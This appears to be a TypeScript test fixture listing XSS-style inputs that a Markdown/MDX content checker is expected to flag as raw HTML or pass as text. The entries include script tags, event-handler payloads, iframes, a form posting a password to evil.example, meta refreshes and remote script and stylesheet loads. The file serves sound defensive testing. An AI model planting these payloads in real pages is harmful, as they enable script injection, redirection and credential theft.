import type {Poison} from './poison';

const rawHtml = /the line holds raw HTML or JSX/;
const rawOrComment = /the line holds (?:raw HTML|an HTML comment)/;

/** Elements and attributes of HTML. */
export const poisonedElements: readonly Poison[] = [
  {what: 'a script', text: '<script>alert(1)</script>', becomes: rawHtml},
  {
    what: 'a script over lines',
    text: '<script\n>alert(1)</script>',
    becomes: rawHtml,
  },
  {
    what: 'a script in capitals',
    text: '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    becomes: rawHtml,
  },
  {
    what: 'a script within a sentence',
    text: 'Text <script>alert(1)</script> text',
    becomes: rawHtml,
  },
  {
    what: 'a script in a list',
    text: '- a\n  - <script>alert(1)</script>',
    line: 2,
    becomes: rawHtml,
  },
  {
    what: 'a script in a quotation',
    text: '> <script>alert(1)</script>',
    becomes: rawHtml,
  },
  {
    what: 'a script in a cell',
    text: '| a |\n| - |\n| <script>alert(1)</script> |',
    line: 3,
    becomes: rawHtml,
  },
  {
    what: 'a script in a footnote',
    text: 'x[^evil]\n\n[^evil]: <script>alert(1)</script>',
    line: 3,
    becomes: rawHtml,
  },
  {
    what: 'a script in a label of a directive',
    text: ':::note[<script>alert(1)</script>]\n\nText.\n\n:::',
    becomes: rawHtml,
  },
  {
    what: 'a script in a solution',
    text: ':::tip\n\n<script>alert(1)</script>\n\n:::',
    line: 3,
    becomes: rawHtml,
  },
  {
    what: 'a script after a comment',
    text: '<!-- x --><script>alert(1)</script>',
    becomes: rawOrComment,
  },
  {
    what: 'a script in a comment that ends early',
    text: '<!--><script>alert(1)</script>-->',
    becomes: rawOrComment,
  },
  {
    what: 'a script in CDATA',
    text: '<![CDATA[<script>alert(1)</script>]]>',
    becomes: rawHtml,
  },
  {
    what: 'a script in a processing instruction',
    text: '<?php <script>alert(1)</script> ?>',
    becomes: rawHtml,
  },
  {what: 'a declaration', text: '<!ENTITY x "y">', becomes: rawHtml},
  {
    what: 'a script of JSON',
    text: '<script type="application/ld+json">{}</script>',
    becomes: rawHtml,
  },
  {
    what: 'a module',
    text: '<script type=module src="https://evil.example/x.mjs"></script>',
    becomes: rawHtml,
  },
  {
    what: 'a script in an SVG',
    text: '<svg><script>alert(1)</script></svg>',
    becomes: rawHtml,
  },
  {
    what: 'a template',
    text: '<template><script>alert(1)</script></template>',
    becomes: rawHtml,
  },
  {
    what: 'a noscript',
    text: '<noscript><img src="https://evil.example/x"></noscript>',
    becomes: rawHtml,
  },
  {what: 'JSX', text: '<Component onLoad={() => alert(1)} />', becomes: 'text'},
  {
    what: 'a custom element',
    text: '<course-live data-live="x"></course-live>',
    becomes: rawHtml,
  },
  {
    what: 'an entity script',
    text: '&lt;script&gt;alert(1)&lt;/script&gt;',
    becomes: 'text',
  },
  {
    what: 'an escaped script',
    text: '\\<script>alert(1)\\</script>',
    becomes: 'text',
  },
  {
    what: 'a script in code',
    text: '`<script>alert(1)</script>`',
    becomes: 'text',
  },
  {
    what: 'a script in a fence',
    text: '```html\n<script>alert(1)</script>\n```',
    becomes: 'text',
  },
  {
    what: 'an import of MDX',
    text: 'import x from "https://evil.example/x.js"',
    becomes: 'text',
  },
  {what: 'an expression of MDX', text: '{alert(1)}', becomes: 'text'},
  {what: 'a handler', text: '<img src=x onerror=alert(1)>', becomes: rawHtml},
  {
    what: 'a handler without spaces',
    text: '<svg/onload=alert(1)>',
    becomes: 'text',
  },
  {
    what: 'a handler over lines',
    text: '<a\nonclick="alert(1)">x</a>',
    becomes: rawHtml,
  },
  {
    what: 'a details that opens',
    text: '<details open ontoggle=alert(1)>',
    becomes: rawHtml,
  },
  {
    what: 'an animation',
    text: '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
    becomes: rawHtml,
  },
  {
    what: 'a focus',
    text: '<input autofocus onfocus=alert(1)>',
    becomes: rawHtml,
  },
  {
    what: 'a frame',
    text: '<iframe src="https://evil.example"></iframe>',
    becomes: rawHtml,
  },
  {
    what: 'a frame over lines',
    text: '<iframe\nsrc=https://evil.example\n></iframe>',
    becomes: rawHtml,
  },
  {
    what: 'a frame with a document',
    text: '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    becomes: rawHtml,
  },
  {
    what: 'a frameset',
    text: '<frameset><frame src="https://evil.example"></frameset>',
    becomes: rawHtml,
  },
  {
    what: 'an object',
    text: '<object data="https://evil.example/x.swf"></object>',
    becomes: rawHtml,
  },
  {
    what: 'an embed',
    text: '<embed src="https://evil.example/x.swf">',
    becomes: rawHtml,
  },
  {what: 'an applet', text: '<applet code=x></applet>', becomes: rawHtml},
  {
    what: 'a portal',
    text: '<portal src="https://evil.example"></portal>',
    becomes: rawHtml,
  },
  {
    what: 'a base',
    text: '<base href="https://evil.example/">',
    becomes: rawHtml,
  },
  {
    what: 'a refresh',
    text: '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    becomes: rawHtml,
  },
  {
    what: 'another policy',
    text: '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    becomes: rawHtml,
  },
  {
    what: 'a form',
    text: '<form action="https://evil.example"><input name=password></form>',
    becomes: rawHtml,
  },
  {
    what: 'a button that sends elsewhere',
    text: '<button formaction="javascript:alert(1)">x</button>',
    becomes: rawHtml,
  },
  {
    what: 'a ping',
    text: '<a href="https://example.com" ping="https://evil.example">x</a>',
    becomes: rawHtml,
  },
  {
    what: 'a preload',
    text: '<link rel=preload as=script href="https://evil.example/x.js">',
    becomes: rawHtml,
  },
  {
    what: 'a prefetch',
    text: '<link rel="prefetch" href="https://evil.example/">',
    becomes: rawHtml,
  },
  {
    what: 'a manifest',
    text: '<link rel=manifest href="https://evil.example/x.json">',
    becomes: rawHtml,
  },
  {
    what: 'a style sheet',
    text: '<style>body{background:url(https://evil.example)}</style>',
    becomes: rawHtml,
  },
  {
    what: 'a style over lines',
    text: '<style\n>@import "https://evil.example/x.css";</style>',
    becomes: rawHtml,
  },
  {
    what: 'a link to a style sheet',
    text: '<link rel=stylesheet href="https://evil.example/x.css">',
    becomes: rawHtml,
  },
  {
    what: 'a style attribute',
    text: '<p style="background:url(https://evil.example)">x</p>',
    becomes: rawHtml,
  },
];
